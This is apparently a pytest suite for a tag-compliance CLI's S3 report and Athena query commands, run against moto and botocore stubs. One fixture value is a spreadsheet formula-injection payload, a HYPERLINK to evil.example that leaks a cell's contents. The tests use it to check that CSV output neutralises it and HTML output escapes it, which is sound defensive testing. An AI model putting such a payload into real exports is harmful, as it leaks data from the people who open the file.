"""`tagwarden report --stack` (the report bucket) and `tagwarden query --athena` (the workgroup).

Everything runs against moto: a CloudFormation stack whose outputs name the report bucket (a
resource of the stack), the Athena workgroup and the Glue database. Two runs are written to the
bucket exactly as the workflow writes them: findings as one gzip JSON Lines object, the summary
built by the workflow's own SummaryBuilder, then the latest-run pointer, all with
`workflow.storage` and the `workflow.layout` keys.

moto's Athena runs no SQL: results are queued through moto's documented API
(`POST /moto-api/static/athena/query-results`), executions move QUEUED -> RUNNING -> SUCCEEDED
one step per GetQueryExecution (moto's state manager), and GetQueryExecution returns the query
text and ExecutionParameters it received, which is what the tests check. moto answers
GetQueryResults in one response and never reports FAILED, so paging and failures go through
botocore's Stubber.
"""

from __future__ import annotations

import csv
import gzip
import html
import json
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import boto3
import pytest
import requests
from botocore.stub import Stubber
from moto import mock_aws
from moto.moto_api import state_manager

from workflow import cli, cli_local_ops, cli_stack_ops, layout, s3_runs
from workflow.athena import AthenaBackend
from workflow.local_query import NAMED_QUERIES, QueryResult, run_named_query
from workflow.operate import OperationError
from workflow.report import Baseline, SummaryBuilder
from workflow.s3_runs import S3Runs
from workflow.storage import put_json, put_jsonl_gz

REGION = "us-east-1"
ACCOUNT = "123456789012"  # moto's default account
STACK = "tagwarden-test"
BUCKET = "tagwarden-reports-test"
WORKGROUP = "tagwarden-test-analytics"
DATABASE = "tagwarden_test"
ROOT = Path(__file__).resolve().parents[2]
HOSTILE_OWNER = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
MOTO_ATHENA_RESULTS = "http://motoapi.amazonaws.com/moto-api/static/athena/query-results"


def finding(
    run_id: str, evaluated_at: str, instance_id: str, owner: str | None, *missing: str
) -> dict[str, Any]:
    """A finding as the Evaluate step writes it (plus run_id, evaluated_at, policy_name)."""
    return {
        "instance_id": instance_id,
        "region": REGION,
        "account_id": "111122223333",
        "state": "running",
        "launch_time": "2026-06-01T08:00:00+00:00",
        "instance_type": "t3.micro",
        "name": f"web-{instance_id[-1]}",
        "owner": owner,
        "tags": {"Owner": owner} if owner else {},
        "compliant": not missing,
        "exempt": False,
        "in_grace_period": False,
        "violations": [
            {"code": "missing", "key": key, "value": None, "message": f"required tag {key} is missing"}
            for key in missing
        ],
        "run_id": run_id,
        "evaluated_at": evaluated_at,
        "policy_name": "baseline",
    }


RUNS: dict[str, tuple[str, str, list[tuple[str, str | None, tuple[str, ...]]]]] = {
    # run id: (dt, evaluated_at, [(instance, owner, missing tags)])
    "nightly-2026-11-27": (
        "2026-11-27",
        "2026-11-27T02:00:00+00:00",
        [
            ("i-0000000000000001", "ana@example.com", ()),
            ("i-0000000000000002", "bo@example.com", ("CostCenter",)),
            ("i-0000000000000003", HOSTILE_OWNER, ("CostCenter", "Environment")),
        ],
    ),
    "nightly-2026-11-28": (
        "2026-11-28",
        "2026-11-28T02:00:00+00:00",
        [
            ("i-0000000000000001", "ana@example.com", ()),
            ("i-0000000000000002", "bo@example.com", ()),
            ("i-0000000000000003", HOSTILE_OWNER, ("CostCenter",)),
            ("i-0000000000000004", None, ("Owner",)),
        ],
    ),
}
OLDER, NEWER = RUNS


def write_runs(s3: Any) -> dict[str, dict[str, Any]]:
    """Both runs, oldest first, in the order Persist report writes: findings, summary, pointer."""
    written: dict[str, dict[str, Any]] = {}
    pointer: dict[str, Any] | None = None
    previous: Baseline | None = None
    for run_id, (dt, evaluated_at, instances) in RUNS.items():
        findings = [finding(run_id, evaluated_at, i, owner, *missing) for i, owner, missing in instances]
        put_jsonl_gz(s3, BUCKET, layout.findings_key(dt, run_id), findings)
        summary = (
            SummaryBuilder()
            .add_all(findings)
            .summary(
                run_id=run_id,
                policy_name="baseline",
                policy_sha256="ab" * 32,
                evaluated_at=evaluated_at,
                baseline=previous,
                extra={"status": "complete", "partial": False, "regions": [REGION], "dry_run": False},
            )
        )
        put_json(s3, BUCKET, layout.summary_key(dt, run_id), summary)
        pointer = {
            "run_id": run_id,
            "started_at": evaluated_at,
            "summary_key": layout.summary_key(dt, run_id),
            "previous": {k: pointer[k] for k in ("run_id", "started_at", "summary_key")} if pointer else None,
        }
        put_json(s3, BUCKET, layout.LATEST_RUN_KEY, pointer)
        previous = Baseline(run_id, summary["scanned_targets"])
        written[run_id] = {"summary": summary, "findings": findings}
    # A dry run stays out of reports/ (and so out of every report and trend).
    put_json(s3, BUCKET, layout.staged_summary_key("dry-1"), {**summary, "run_id": "dry-1", "dry_run": True})
    return written


def template() -> str:
    return json.dumps(
        {
            "Resources": {"ReportBucket": {"Type": "AWS::S3::Bucket", "Properties": {"BucketName": BUCKET}}},
            "Outputs": {
                "ReportBucketName": {"Value": {"Ref": "ReportBucket"}},
                "AthenaWorkGroupName": {"Value": WORKGROUP},
                "GlueDatabaseName": {"Value": DATABASE},
            },
        }
    )


class Deployment:
    def __init__(self) -> None:
        self.s3 = boto3.client("s3", region_name=REGION)
        self.athena = boto3.client("athena", region_name=REGION)
        boto3.client("cloudformation", region_name=REGION).create_stack(
            StackName=STACK, TemplateBody=template()
        )
        self.athena.create_work_group(Name=WORKGROUP)
        self.runs = write_runs(self.s3)

    def executions(self) -> list[dict[str, Any]]:
        ids = self.athena.list_query_executions(WorkGroup=WORKGROUP)["QueryExecutionIds"]
        return [self.athena.get_query_execution(QueryExecutionId=i)["QueryExecution"] for i in ids]


@pytest.fixture
def aws(monkeypatch: pytest.MonkeyPatch) -> Iterator[Deployment]:
    monkeypatch.delenv("TAGWARDEN_STACK", raising=False)
    monkeypatch.delenv("AWS_PROFILE", raising=False)
    monkeypatch.setenv("AWS_DEFAULT_REGION", REGION)
    with mock_aws():
        # Each GetQueryExecution moves a query one state on: QUEUED -> RUNNING -> SUCCEEDED.
        state_manager.set_transition(
            model_name="athena::execution", transition={"progression": "manual", "times": 1}
        )
        try:
            yield Deployment()
        finally:
            state_manager.unset_transition(model_name="athena::execution")


@pytest.fixture
def no_aws_configuration(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in (
        "AWS_ACCESS_KEY_ID",
        "AWS_SECRET_ACCESS_KEY",
        "AWS_SESSION_TOKEN",
        "AWS_SECURITY_TOKEN",
        "AWS_PROFILE",
        "AWS_DEFAULT_PROFILE",
        "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
        "AWS_CONTAINER_CREDENTIALS_FULL_URI",
        "AWS_WEB_IDENTITY_TOKEN_FILE",
        "TAGWARDEN_STACK",
    ):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", "/dev/null")
    monkeypatch.setenv("AWS_CONFIG_FILE", "/dev/null")
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")


def tagwarden(*argv: str) -> int:
    return cli.main(list(argv))


def only_line(err: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    return lines[0]


@pytest.fixture
def athena_calls(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The name of every Athena API call the CLI makes, in order."""
    calls: list[str] = []
    original = cli_stack_ops.make_client

    def make_client(session: Any, service: str, region: str | None) -> Any:
        client = original(session, service, region)
        if service == "athena":
            client.meta.events.register("before-call.athena", lambda model, **_: calls.append(model.name))
        return client

    monkeypatch.setattr(cli_stack_ops, "make_client", make_client)
    return calls


def queue_athena_results(columns: list[tuple[str, str]], rows: list[list[str | None]]) -> None:
    """Queue one result set for the next query, as Athena returns a SELECT's: header row first."""
    header = {"Data": [{"VarCharValue": name} for name, _ in columns]}
    data = [{"Data": [{} if v is None else {"VarCharValue": v} for v in row]} for row in rows]
    info = [{"Name": name, "Label": name, "Type": kind, "Nullable": "UNKNOWN"} for name, kind in columns]
    body = {
        "account_id": ACCOUNT,
        "region": REGION,
        "results": [{"rows": [header, *data], "column_info": info}],
    }
    assert requests.post(MOTO_ATHENA_RESULTS, json=body, timeout=5).status_code == 201


# -- report --stack ------------------------------------------------------------------------------------


def test_report_latest_follows_the_pointer_and_streams_the_findings_from_s3(
    aws: Deployment, capsys: pytest.CaptureFixture[str]
) -> None:
    assert tagwarden("report", "--stack", STACK, "--latest", "--format", "json") == 0
    report = json.loads(capsys.readouterr().out)
    assert report["run_id"] == NEWER
    assert report["summary"] == aws.runs[NEWER]["summary"]
    assert report["findings"] == aws.runs[NEWER]["findings"]
    drift = report["summary"]["drift"]
    assert (drift["previous_run_id"], drift["newly_noncompliant"], drift["newly_compliant"]) == (
        OLDER,
        ["i-0000000000000004"],
        ["i-0000000000000002"],
    )


def test_report_run_finds_an_older_run_through_the_listing_and_bucket_works_without_a_stack(
    aws: Deployment, capsys: pytest.CaptureFixture[str]
) -> None:
    assert tagwarden("report", "--stack", STACK, "--run", OLDER, "--format", "json") == 0
    assert json.loads(capsys.readouterr().out) == {"run_id": OLDER, **aws.runs[OLDER]}
    assert tagwarden("report", "--bucket", BUCKET, "--run", OLDER, "--format", "json") == 0
    assert json.loads(capsys.readouterr().out)["findings"] == aws.runs[OLDER]["findings"]


def test_run_lookup_reads_every_page_of_the_listing(aws: Deployment) -> None:
    calls: list[dict[str, Any]] = []
    aws.s3.meta.events.register(
        "before-parameter-build.s3.ListObjectsV2", lambda params, **_: calls.append(dict(params))
    )
    runs = S3Runs(aws.s3, BUCKET, page_size=1)
    assert runs.get(OLDER).summary() == aws.runs[OLDER]["summary"]
    assert len(calls) == 2 and all(c["MaxKeys"] == 1 for c in calls)
    assert [k.run_id for k in runs.run_keys()] == [OLDER, NEWER]
    assert [s["run_id"] for s in runs.summaries(limit=1)] == [NEWER]


def test_report_csv_from_s3_has_every_finding_with_formula_cells_neutralised(
    aws: Deployment, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "report.csv"
    assert tagwarden("report", "--stack", STACK, "--format", "csv", "--out", str(out)) == 0
    assert capsys.readouterr().out == ""
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["instance_id"] for r in rows] == [f["instance_id"] for f in aws.runs[NEWER]["findings"]]
    hostile = next(r for r in rows if r["instance_id"] == "i-0000000000000003")
    assert hostile["owner"] == "'" + HOSTILE_OWNER
    assert hostile["violation_codes"] == "CostCenter:missing"


def test_report_html_from_s3_draws_the_trend_of_the_most_recent_runs(
    aws: Deployment, capsys: pytest.CaptureFixture[str]
) -> None:
    assert tagwarden("report", "--stack", STACK, "--format", "html") == 0
    page = capsys.readouterr().out
    assert "Compliance trend (2 runs)" in page
    assert page.count('class="point"') == 2  # both runs; the dry run in staging/ is not one
    assert page.index(f"{OLDER} (2026-11-27") < page.index(f"{NEWER} (2026-11-28")  # oldest left
    assert html.escape(HOSTILE_OWNER, quote=True) in page  # shown as text, escaped
    assert tagwarden("report", "--stack", STACK, "--format", "html", "--trend", "1") == 0
    assert 'class="point"' not in capsys.readouterr().out  # one run is no trend
    assert cli_local_ops.DEFAULT_TREND_RUNS == s3_runs.DEFAULT_TREND_RUNS


def test_report_table_from_s3_groups_the_noncompliant_instances_by_owner(
    aws: Deployment, capsys: pytest.CaptureFixture[str]
) -> None:
    assert tagwarden("report", "--stack", STACK, "--run", NEWER) == 0
    out = capsys.readouterr().out
    assert f"Run {NEWER}" in out and "(no owner) (1 noncompliant)" in out


def test_an_unknown_run_is_one_line_naming_recent_runs_and_exit_2(
    aws: Deployment, capsys: pytest.CaptureFixture[str]
) -> None:
    assert tagwarden("report", "--stack", STACK, "--run", "nightly-1999-01-01") == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    assert only_line(captured.err) == (
        f"--run: no run 'nightly-1999-01-01' in s3://{BUCKET} (latest runs: {OLDER}, {NEWER})"
    )


def test_a_bucket_without_runs_or_without_a_bucket_is_one_line_and_exit_2(
    aws: Deployment, capsys: pytest.CaptureFixture[str]
) -> None:
    aws.s3.create_bucket(Bucket="empty-reports")
    assert tagwarden("report", "--bucket", "empty-reports") == 2
    assert only_line(capsys.readouterr().err) == (
        "--latest: no finished run in s3://empty-reports yet "
        "(s3://empty-reports/state/latest-run.json does not exist)"
    )
    assert tagwarden("report", "--bucket", "no-such-bucket") == 2
    assert only_line(capsys.readouterr().err) == (
        "tagwarden: GetObject: NoSuchBucket: The specified bucket does not exist"
    )
    assert tagwarden("report", "--bucket", "empty-reports", "--run", OLDER) == 2
    assert (
        only_line(capsys.readouterr().err) == f"--run: no run '{OLDER}': s3://empty-reports holds no runs yet"
    )


def test_a_run_whose_objects_are_missing_or_corrupt_is_one_line(
    aws: Deployment, capsys: pytest.CaptureFixture[str]
) -> None:
    aws.s3.delete_object(Bucket=BUCKET, Key=layout.findings_key(RUNS[OLDER][0], OLDER))
    assert tagwarden("report", "--stack", STACK, "--run", OLDER) == 2
    assert only_line(capsys.readouterr().err) == (
        f"report: run '{OLDER}' has no findings at s3://{BUCKET}/{layout.findings_key(RUNS[OLDER][0], OLDER)}"
    )
    key = layout.findings_key(RUNS[NEWER][0], NEWER)
    aws.s3.put_object(Bucket=BUCKET, Key=key, Body=b"not gzip")
    assert tagwarden("report", "--stack", STACK) == 2
    assert only_line(capsys.readouterr().err).startswith(
        f"s3://{BUCKET}/{key} line 1: not gzip JSON Lines: Not a gzipped file"
    )
    good = aws.runs[NEWER]["findings"]
    body = gzip.compress(("\n".join(json.dumps(f) for f in good[:2]) + "\n{broken\n").encode())
    aws.s3.put_object(Bucket=BUCKET, Key=key, Body=body)
    assert tagwarden("report", "--stack", STACK) == 2
    assert only_line(capsys.readouterr().err).startswith(f"s3://{BUCKET}/{key} line 3: not gzip JSON Lines:")


def test_report_with_local_and_a_bucket_is_refused(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    assert tagwarden("report", "--local", str(tmp_path), "--bucket", BUCKET) == 2
    assert only_line(capsys.readouterr().err) == (
        "--local: reads run folders, --bucket the report bucket: give one of them"
    )


@pytest.mark.usefixtures("no_aws_configuration")
@pytest.mark.parametrize(
    "argv",
    [
        ["report", "--stack", STACK],
        ["report", "--bucket", BUCKET, "--run", OLDER],
        ["query", "noncompliant_by_rule", "--athena", "--stack", STACK],
    ],
    ids=["report-stack", "report-bucket", "query-athena"],
)
def test_no_credentials_is_one_line_not_a_traceback(
    argv: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    assert tagwarden(*argv, "--region", REGION) == 2
    assert only_line(capsys.readouterr().err) == (
        "tagwarden: no AWS credentials found (set AWS_PROFILE, or AWS_ACCESS_KEY_ID and "
        "AWS_SECRET_ACCESS_KEY, or run 'aws sso login')"
    )


# -- query --athena --------------------------------------------------------------------------------------

LONGER_THAN_DAYS = [
    ("account_id", "varchar"),
    ("region", "varchar"),
    ("instance_id", "varchar"),
    ("name", "varchar"),
    ("owner", "varchar"),
    ("noncompliant_since", "varchar"),
    ("days_noncompliant", "bigint"),
    ("violations", "array(row(code varchar, key varchar, value varchar, message varchar))"),
]


def test_a_named_query_runs_in_the_stack_workgroup_with_its_file_text_and_parameters(
    aws: Deployment, athena_calls: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    violations = "[{code=missing, key=CostCenter, value=null, message=required tag CostCenter is missing}]"
    queue_athena_results(
        LONGER_THAN_DAYS,
        [
            [
                "111122223333",
                REGION,
                "i-0000000000000003",
                "web-3",
                HOSTILE_OWNER,
                "2026-10-01",
                "58",
                violations,
            ],
            ["111122223333", REGION, "i-0000000000000004", None, None, "2026-11-01", "27", violations],
        ],
    )
    name = "noncompliant_longer_than_days"
    assert (
        tagwarden("query", name, "--athena", "--stack", STACK, "--param", "days=14", "--format", "json") == 0
    )
    rows = json.loads(capsys.readouterr().out)
    assert rows == [
        {
            "account_id": "111122223333",
            "region": REGION,
            "instance_id": "i-0000000000000003",
            "name": "web-3",
            "owner": HOSTILE_OWNER,
            "noncompliant_since": "2026-10-01",
            "days_noncompliant": 58,
            "violations": violations,
        },
        {
            "account_id": "111122223333",
            "region": REGION,
            "instance_id": "i-0000000000000004",
            "name": None,
            "owner": None,
            "noncompliant_since": "2026-11-01",
            "days_noncompliant": 27,
            "violations": violations,
        },
    ]
    [execution] = aws.executions()
    sql = (ROOT / "workflow" / "queries" / f"{name}.sql").read_text(encoding="utf-8")
    assert execution["Query"] == sql == NAMED_QUERIES[name].sql
    assert execution["ExecutionParameters"] == ["14"]
    assert execution["QueryExecutionContext"] == {"Database": DATABASE}
    assert execution["WorkGroup"] == WORKGROUP
    # Polled until SUCCEEDED (moto: QUEUED, then RUNNING, then SUCCEEDED), then read the results.
    assert athena_calls == [
        "StartQueryExecution",
        "GetQueryExecution",
        "GetQueryExecution",
        "GetQueryResults",
    ]


def test_both_backends_get_the_same_sql_text_and_values_from_one_source(aws: Deployment) -> None:
    class Recorder:
        """Stands in for LocalDuckDB: what run_named_query hands a backend."""

        def execute(self, sql: str, parameters: Sequence[Any]) -> QueryResult:
            return QueryResult((), [], sql, tuple(parameters))

    local = run_named_query("noncompliant_longer_than_days", backend=Recorder(), params={"days": 3})
    athena = AthenaBackend(aws.athena, workgroup=WORKGROUP, database=DATABASE, sleep=lambda _: None)
    run_named_query("noncompliant_longer_than_days", backend=athena, params={"days": 3})
    [execution] = aws.executions()
    assert execution["Query"] == local.sql
    assert execution["ExecutionParameters"] == [str(v) for v in local.parameters] == ["3"]


def test_raw_sql_on_athena_sends_no_parameters_and_prints_csv_with_formulas_neutralised(
    aws: Deployment, capsys: pytest.CaptureFixture[str]
) -> None:
    queue_athena_results(
        [("owner", "varchar"), ("n", "bigint")], [[HOSTILE_OWNER, "2"], ["bo@example.com", "1"]]
    )
    sql = "SELECT owner, count(*) AS n FROM findings WHERE NOT compliant GROUP BY owner ORDER BY n DESC"
    assert tagwarden("query", sql, "--athena", "--stack", STACK, "--format", "csv") == 0
    assert capsys.readouterr().out.splitlines() == [
        "owner,n",
        '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",2',
        "bo@example.com,1",
    ]
    [execution] = aws.executions()
    assert execution["Query"] == sql
    assert "ExecutionParameters" not in execution


def test_athena_table_output_has_the_named_query_title(
    aws: Deployment, capsys: pytest.CaptureFixture[str]
) -> None:
    queue_athena_results([("owner", "varchar"), ("noncompliant", "bigint")], [["bo@example.com", "3"]])
    assert tagwarden("query", "noncompliant_by_owner", "--athena", "--stack", STACK) == 0
    out = capsys.readouterr().out
    assert out.startswith("Noncompliant instances by owner") and "│ bo@example.com │            3 │" in out


SQL = "SELECT n FROM t WHERE x > ?"


def athena_stub(*statuses: dict[str, Any]) -> tuple[Any, Stubber]:
    """A real Athena client on a Stubber: the start, then one GetQueryExecution per status."""
    client = boto3.client("athena", region_name=REGION, aws_access_key_id="x", aws_secret_access_key="x")
    stub = Stubber(client)
    stub.add_response(
        "start_query_execution",
        {"QueryExecutionId": "q-1"},
        {
            "QueryString": SQL,
            "QueryExecutionContext": {"Database": DATABASE},
            "WorkGroup": WORKGROUP,
            "ExecutionParameters": ["5"],
        },
    )
    for status in statuses:
        stub.add_response(
            "get_query_execution",
            {"QueryExecution": {"QueryExecutionId": "q-1", "Status": status}},
            {"QueryExecutionId": "q-1"},
        )
    return client, stub


def cells(*values: str | None) -> dict[str, Any]:
    return {"Data": [{} if v is None else {"VarCharValue": v} for v in values]}


def test_results_over_several_pages_are_one_result_with_the_header_dropped_once() -> None:
    client, stub = athena_stub(
        {"State": "QUEUED"}, {"State": "RUNNING"}, {"State": "RUNNING"}, {"State": "SUCCEEDED"}
    )
    info = {"ColumnInfo": [{"Name": "n", "Type": "bigint"}, {"Name": "owner", "Type": "varchar"}]}
    stub.add_response(
        "get_query_results",
        {
            "ResultSet": {
                "Rows": [cells("n", "owner"), cells("3", "ana"), cells("2", "n")],
                "ResultSetMetadata": info,
            },
            "NextToken": "t-1",
        },
        {"QueryExecutionId": "q-1", "MaxResults": 1000},
    )
    stub.add_response(
        "get_query_results",
        # Later pages repeat no header, even when a row looks like one.
        {"ResultSet": {"Rows": [cells("n", "owner"), cells(None, None)], "ResultSetMetadata": info}},
        {"QueryExecutionId": "q-1", "MaxResults": 1000, "NextToken": "t-1"},
    )
    sleeps: list[float] = []
    backend = AthenaBackend(client, workgroup=WORKGROUP, database=DATABASE, sleep=sleeps.append)
    with stub:
        result = backend.execute(SQL, [5])
    stub.assert_no_pending_responses()
    assert result.columns == ("n", "owner")
    assert result.rows == [(3, "ana"), (2, "n"), ("n", "owner"), (None, None)]
    assert (result.sql, result.parameters) == (SQL, (5,))
    assert sleeps == [0.25, 0.5, 1.0]  # backoff between polls, none once it is done


@pytest.mark.parametrize(
    ("status", "message"),
    [
        (
            {
                "State": "FAILED",
                "StateChangeReason": "COLUMN_NOT_FOUND: line 1:8: Column 'nope' cannot be resolved\n or requester is not authorized",
                "AthenaError": {"ErrorCategory": 2, "ErrorType": 1006, "ErrorMessage": "ignored"},
            },
            "Athena query q-1 FAILED: COLUMN_NOT_FOUND: line 1:8: Column 'nope' cannot be resolved or requester is not authorized",
        ),
        (
            {"State": "FAILED", "AthenaError": {"ErrorCategory": 1, "ErrorMessage": "Internal error"}},
            "Athena query q-1 FAILED: Internal error",
        ),
        ({"State": "CANCELLED"}, "Athena query q-1 CANCELLED: Athena gave no reason"),
    ],
    ids=["failed", "failed-athena-error-only", "cancelled"],
)
def test_a_query_that_does_not_succeed_is_an_operation_error_with_athenas_reason(
    status: dict[str, Any], message: str
) -> None:
    client, stub = athena_stub({"State": "RUNNING"}, status)
    backend = AthenaBackend(client, workgroup=WORKGROUP, database=DATABASE, sleep=lambda _: None)
    with stub, pytest.raises(OperationError) as raised:
        backend.execute(SQL, [5])
    stub.assert_no_pending_responses()  # no GetQueryResults, no StopQueryExecution
    assert str(raised.value) == message


def test_a_failed_query_on_the_cli_is_one_line_and_exit_3(
    aws: Deployment, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    client = boto3.client("athena", region_name=REGION)
    stub = Stubber(client)
    stub.add_response(
        "start_query_execution",
        {"QueryExecutionId": "q-9"},
        {
            "QueryString": "SELECT nope FROM findings",
            "QueryExecutionContext": {"Database": DATABASE},
            "WorkGroup": WORKGROUP,
        },
    )
    reason = "COLUMN_NOT_FOUND: line 1:8: Column 'nope' cannot be resolved"
    stub.add_response(
        "get_query_execution",
        {"QueryExecution": {"Status": {"State": "FAILED", "StateChangeReason": reason}}},
    )
    original = cli_stack_ops.make_client
    monkeypatch.setattr(
        cli_stack_ops,
        "make_client",
        lambda session, service, region: (
            client if service == "athena" else original(session, service, region)
        ),
    )
    with stub:
        assert tagwarden("query", "SELECT nope FROM findings", "--athena", "--stack", STACK) == 3
    captured = capsys.readouterr()
    assert captured.out == ""
    assert only_line(captured.err) == f"tagwarden: Athena query q-9 FAILED: {reason}"


def test_a_query_still_running_at_the_timeout_is_stopped() -> None:
    client, stub = athena_stub({"State": "RUNNING"}, {"State": "RUNNING"})
    stub.add_response("stop_query_execution", {}, {"QueryExecutionId": "q-1"})
    clock = iter([0.0, 10.0, 20.0])
    backend = AthenaBackend(
        client,
        workgroup=WORKGROUP,
        database=DATABASE,
        timeout=15,
        sleep=lambda _: None,
        clock=lambda: next(clock),
    )
    with (
        stub,
        pytest.raises(OperationError, match=r"^Athena query q-1 still RUNNING after 15 s; stopped it$"),
    ):
        backend.execute(SQL, [5])
    stub.assert_no_pending_responses()


def test_an_interrupted_wait_stops_the_query_and_lets_the_interrupt_through() -> None:
    client, stub = athena_stub({"State": "RUNNING"})
    stub.add_response("stop_query_execution", {}, {"QueryExecutionId": "q-1"})

    def interrupt(_: float) -> None:
        raise KeyboardInterrupt

    backend = AthenaBackend(client, workgroup=WORKGROUP, database=DATABASE, sleep=interrupt)
    with stub, pytest.raises(KeyboardInterrupt):
        backend.execute(SQL, [5])
    stub.assert_no_pending_responses()


def test_athena_needs_a_stack_and_a_stack_without_the_outputs_says_which(
    aws: Deployment, capsys: pytest.CaptureFixture[str]
) -> None:
    assert tagwarden("query", "noncompliant_by_rule", "--athena") == 2
    assert (
        only_line(capsys.readouterr().err)
        == "--athena: which deployment? pass --stack NAME or set TAGWARDEN_STACK"
    )
    boto3.client("cloudformation", region_name=REGION).create_stack(
        StackName="bucket-only",
        TemplateBody=json.dumps(
            {
                "Resources": {
                    "B": {"Type": "AWS::S3::Bucket", "Properties": {"BucketName": "other-reports"}}
                },
                "Outputs": {"ReportBucketName": {"Value": {"Ref": "B"}}},
            }
        ),
    )
    assert tagwarden("query", "noncompliant_by_rule", "--athena", "--stack", "bucket-only") == 2
    assert capsys.readouterr().err.splitlines() == [
        "tagwarden: stack 'bucket-only' has no output AthenaWorkGroupName; deploy a stack version that exports it",
        "tagwarden: stack 'bucket-only' has no output GlueDatabaseName; deploy a stack version that exports it",
    ]
    assert tagwarden("query", "no_such_query", "--athena", "--stack", STACK) == 2
    assert only_line(capsys.readouterr().err).startswith("query: no named query 'no_such_query'")
    assert aws.executions() == []
    assert tagwarden("query", "noncompliant_by_rule", "--stack", STACK) == 2
    assert only_line(capsys.readouterr().err) == "--stack: --stack, --region and --profile go with --athena"
